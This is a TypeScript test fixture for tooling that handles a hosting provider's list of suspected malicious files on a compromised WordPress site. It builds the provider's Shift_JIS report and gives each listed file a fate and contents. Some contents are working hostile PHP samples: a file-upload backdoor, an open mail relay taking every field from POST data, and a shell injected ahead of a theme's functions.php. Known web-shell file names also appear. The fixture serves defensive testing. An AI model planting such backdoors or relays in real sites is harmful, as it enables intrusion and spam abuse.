import { plantedFile, SHELL_CODE } from '../../plantedFile';
import { encodeShiftJis } from '../../../../scripts/sample/shiftJis';
import { REMOTE_ROOT } from './places';

/**
 * What became of a file that the host lists: it is in the copy; the copy has an empty one, or none, because it is locked; the owner
 * deleted it by FTP, or in the host's panel.
 */
export type Fate = 'present' | 'empty' | 'locked' | 'deletedByFtp' | 'deletedInPanel';

/** A file that the host lists. */
export interface ListedFile {
  /** Path below the document root. */
  readonly path: string;
  readonly fate: Fate;
  /** What is in it, where it is in the copy. */
  readonly code: string;
}

const SHELL = plantedFile(SHELL_CODE);
const UPLOADER = [
  '<?php if (isset($_FILES["f"])) move_uploaded',
  '_file($_FILES["f"]["tmp_name"], $_POST["n"]);\n',
].join('');
const MAILER = '<?php mail($_POST["to"], $_POST["subject"], $_POST["body"], $_POST["headers"]);\n';
/** The theme's own code, with a line before it that is none of its own. */
const INJECTED = `${SHELL}?><?php\nadd_theme_support('title-tag');\nregister_nav_menu('main', '主なメニュー');\n`;
/** A file that the host's scanner accuses and that does nothing. */
const HARMLESS = '<?php\n// 何も表示しません。\n';

const FILES: Readonly<Record<Fate, readonly (string | readonly [path: string, code: string])[]>> = {
  present: [
    'l.php',
    ['wp-content/plugins/wp-file-manager/lib/files/x.php', UPLOADER],
    'wp-content/uploads/2021/10/cache.php',
    'wp-content/uploads/2021/10/ギャラリー.php',
    'wp-content/uploads/2021/11/photo (1).php',
    ['wp-content/themes/tsuchinone/functions.php', INJECTED],
    'wp-content/themes/tsuchinone/404.php',
    ['wp-content/languages/wp-lang.php', HARMLESS],
    'wp-includes/css/style.php',
    'wp-includes/js/jquery/plugin.php',
    'wp-admin/css/colors/index.php',
    'wp-admin/images/about.php',
    'images/works/thumb.php',
    'images/.cache.php',
    ['contact/m.php', MAILER],
    'css/style.css.php',
    'news/2021/index.php',
    '.well-known/about.php',
  ],
  empty: [
    'wp-content/uploads/2020/05/wp-cache.php',
    'wp-content/uploads/2020/06/radio.php',
    'wp-includes/images/media/mah.php',
    'wp-admin/network/lock360.php',
  ],
  locked: [
    'wp-content/mu-plugins/loader.php',
    'wp-content/upgrade/up.php',
    'wp-content/plugins/akismet/views/wso.php',
    'wp-content/uploads/2019/01/index.php',
    'wp-content/uploads/2019/02/index.php',
    'wp-content/uploads/2019/03/index.php',
    'wp-includes/fonts/f.php',
    'wp-includes/pomo/po.mo.php',
    'wp-admin/maint/r.php',
    'cgi-bin/alfa.php',
  ],
  deletedByFtp: [
    'images/works/m1.php',
    'images/works/m2.php',
    'images/works/m3.php',
    'wp-content/uploads/2021/09/sym.php',
    'news/old.php',
  ],
  deletedInPanel: ['wp-cron2.php', 'wp-conflg.php', 'about.php'],
};

/** The forty files of the host's list. */
export const LISTED_FILES: readonly ListedFile[] = Object.entries(FILES).flatMap(([fate, files]) =>
  files.map((file): ListedFile => {
    const [path, code] = typeof file === 'string' ? [file, SHELL] : file;
    return { path, fate: fate as Fate, code };
  }),
);

/** The list as the host attaches it: Shift_JIS with the line ends of Windows, a heading, and a line at the end that is no path. */
export function hostList(): Uint8Array {
  const lines = [
    '検出日時：2021/11/09 03:32',
    `不正プログラムと思われるファイル一覧（${LISTED_FILES.length}件）`,
    '',
    ...LISTED_FILES.map(({ path }) => `${REMOTE_ROOT}/${path}`).toSorted(),
    '',
    '以上',
  ];
  return encodeShiftJis(lines.map((line) => `${line}\r\n`).join(''));
}
